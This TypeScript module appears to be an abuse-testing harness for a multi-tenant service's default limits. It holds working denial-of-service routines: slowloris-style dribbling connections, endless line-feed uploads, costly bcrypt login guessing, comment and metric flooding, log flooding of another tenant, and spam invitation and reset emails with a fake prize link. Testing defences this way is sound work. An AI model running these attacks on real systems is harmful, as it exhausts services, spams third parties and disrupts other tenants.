import { request } from "node:http";
import { connect } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { hashSync as bcrypt } from "@node-rs/bcrypt";

/*
 * Attacks by a stranger with a sandbox within the default limits, each in a loop until its process ends. The product trusts this machine
 * as a proxy, so that each stranger has a separate address.
 */

interface Stranger {
  url: string;
  tenant: string;
  address: string;
  sessionId: string;
  /** The target: names of a tenant and a site are public. */
  victim: { tenant: string; site: string };
  /** Its requests by status. */
  statuses: Record<string, number>;
}

type Sent = Omit<RequestInit, "headers"> & { headers?: Record<string, string> };

const site = "main";
const password = "seven violet lanterns drift";

async function send({ url, address, statuses }: Stranger, path: string, sent: Sent = {}) {
  const headers = { "X-Forwarded-For": address, ...sent.headers };
  const response = await fetch(`${url}${path}`, { ...sent, headers });
  const { status } = response;
  statuses[status] = (statuses[status] ?? 0) + 1;
  return { status, body: await response.text() };
}

const ofTenant = ({ tenant, sessionId }: Stranger) => ({
  "X-Service-Tenant": tenant,
  "X-Service-Site": site,
  "X-Service-Session-Id": sessionId,
});

function postJson(stranger: Stranger, path: string, body: unknown, given = ofTenant(stranger)) {
  const headers = { ...given, "Content-Type": "application/json" };
  return send(stranger, path, { method: "POST", headers, body: JSON.stringify(body) });
}

/** Signs up for a sandbox and signs in to it. */
export async function openSandbox(given: Omit<Stranger, "sessionId">): Promise<Stranger> {
  const { tenant } = given;
  const stranger = { ...given, sessionId: "" };
  const named = { "X-Service-Tenant": tenant } as ReturnType<typeof ofTenant>;
  const emailAddress = "stranger@mail.harbour.dev";
  const owner = { tenant, site, login: "admin", name: "Stranger", emailAddress, password };
  const made = await postJson(stranger, "/v1/signup", owner, named);
  if (made.status !== 201) throw new Error(`No sandbox: ${made.status} ${made.body}`);
  const login = { login: "admin", tenant, password };
  const entered = await postJson(stranger, "/v1/user/session-login", login, named);
  return { ...stranger, sessionId: JSON.parse(entered.body).sessionId };
}

const upload = (stranger: Stranger, body: BodyInit) =>
  send(stranger, "/v1/customers/imports", {
    method: "POST",
    headers: { ...ofTenant(stranger), "Content-Type": "application/x-ndjson" },
    body,
    duplex: "half",
  } as Sent);

/** Sends line feeds as fast as they are accepted, until the response. (`fetch` would not stop its stream after an early response.) */
function lineFeeds(stranger: Stranger): Promise<void> {
  const { url, address, statuses } = stranger;
  const headers = {
    ...{ ...ofTenant(stranger), "X-Forwarded-For": address },
    "Content-Type": "application/x-ndjson",
  };
  const chunk = Buffer.alloc(65_536, "\n");
  return new Promise((resolve) => {
    const sent = request(`${url}/v1/customers/imports`, { method: "POST", agent: false, headers });
    const write = () => {
      while (!sent.destroyed && sent.write(chunk));
    };
    sent.on("response", (answer) => {
      const status = answer.statusCode ?? 0;
      statuses[status] = (statuses[status] ?? 0) + 1;
      sent.destroy();
    });
    sent.on("error", () => resolve()).on("close", () => resolve());
    sent.on("drain", write);
    write();
  });
}

const guessed = 200;

async function importHashes(stranger: Stranger): Promise<string> {
  const passwordHash = bcrypt(password, 8);
  const lines = Array.from({ length: guessed }, (_, n) =>
    JSON.stringify({ login: `guessed-${n}@shop.example`, passwordHash }),
  );
  await upload(stranger, lines.join("\n"));
  const { body } = await postJson(stranger, "/v1/customer/login/anonymous-token", {}, {
    "X-Service-Tenant": stranger.tenant,
    "X-Service-Site": site,
  } as ReturnType<typeof ofTenant>);
  return JSON.parse(body).accessToken;
}

/** 90 guesses a minute at the costliest hashes that an import accepts. */
async function costlyHashes(stranger: Stranger): Promise<void> {
  const token = await importHashes(stranger);
  const headers = {
    "X-Service-Tenant": stranger.tenant,
    "X-Service-Site": site,
    Authorization: `Bearer ${token}`,
  };
  for (let n = 0; ; n += 1) {
    const guess = { login: `guessed-${n % guessed}@shop.example`, password: "a wrong one" };
    void postJson(
      stranger,
      "/v1/customer/login/token",
      guess,
      headers as unknown as ReturnType<typeof ofTenant>,
    ).catch(() => undefined);
    await pause(60_000 / 90);
  }
}

async function distinctValues(stranger: Stranger): Promise<void> {
  const mark = crypto.randomUUID();
  const time = new Date().toISOString();
  const cells = Array.from({ length: 1000 }, (_, n) => ({
    ...{ time, domain: `d-${mark}-${n}`, endpoint: `GET /${mark}/${n}`, method: "GET" },
    ...{ status: 200, count: 1 },
  }));
  await postJson(stranger, "/v1/api-metrics/events", { batchId: mark, cells });
}

const connections = 1000;

/** Connections that send a byte of their headers now and then. */
async function dribbles({ url }: Stranger): Promise<void> {
  const { hostname, port } = new URL(url);
  const dribble = async () => {
    const socket = connect(Number(port), hostname);
    socket.on("error", () => undefined);
    socket.write("GET /v1/user/list HTTP/1.1\r\nHost: x\r\nX-Pad: ");
    while (!socket.destroyed) {
      socket.write("a");
      await pause(1000);
    }
    socket.destroy();
  };
  const keepUp = async () => {
    for (;;) await dribble();
  };
  await Promise.all(Array.from({ length: connections }, keepUp));
}

/** Triggers notices to users of a sandbox, whose addresses may belong to anybody. */
async function mails(stranger: Stranger): Promise<void> {
  const login = `YOU WON https://evil.example/${crypto.randomUUID().slice(0, 8)}`;
  const person = { login, name: "Somebody", emailAddress: "anybody@mail.harbour.dev" };
  const roles = { roleIds: ["portal.default"], sites: {} };
  const made = await postJson(stranger, "/v1/user/invitations", { ...person, roles });
  if (made.status !== 201) return;
  const { id, token } = JSON.parse(made.body);
  const named = { "X-Service-Tenant": stranger.tenant } as ReturnType<typeof ofTenant>;
  await postJson(stranger, "/v1/user/invitations/accept", { token, password }, named);
  for (const act of ["lock", "unlock"])
    await postJson(stranger, `/v1/user/${id}/${act}`, act === "lock" ? { reason: "x" } : {});
  await postJson(stranger, "/v1/user/password-resets", { login }, named);
}

async function comments(stranger: Stranger): Promise<void> {
  await postJson(stranger, "/pim/preview", { key: "home", configuration: { title: "Home" } });
  for (;;) {
    await postJson(stranger, "/pim/preview/home/comments", { text: "x".repeat(1000) });
    await send(stranger, "/pim/preview/home/comments", { headers: ofTenant(stranger) });
  }
}

/** Sends ten requests a second without a credential, which fill the log of the other tenant with long rows. */
async function logRows(stranger: Stranger): Promise<void> {
  const headers = {
    "X-Service-Tenant": stranger.victim.tenant,
    "User-Agent": Array.from({ length: 30 }, () => crypto.randomUUID().slice(0, 8)).join(" "),
  };
  const path = `/v1/user/${"long-path/".repeat(24)}`;
  void send(stranger, path, { headers }).catch(() => undefined);
  await pause(100);
}

export const attacks = {
  "imports of line feeds": lineFeeds,
  "guesses at costly hashes": costlyHashes,
  "batches of distinct values": distinctValues,
  "1,000 dribbling connections": dribbles,
  mails,
  comments,
  "rows of the request log": logRows,
} satisfies Record<string, (stranger: Stranger) => Promise<void>>;

export type AttackName = keyof typeof attacks;

/** Repeats attacks in parallel until the process ends. Retries rejected requests immediately, as an attacker would. */
export async function attack(stranger: Stranger, names: readonly AttackName[]): Promise<void> {
  const repeat = async (name: AttackName) => {
    for (;;) {
      await attacks[name](stranger).catch(() => undefined);
      await pause(10);
    }
  };
  await Promise.all(names.map(repeat));
}
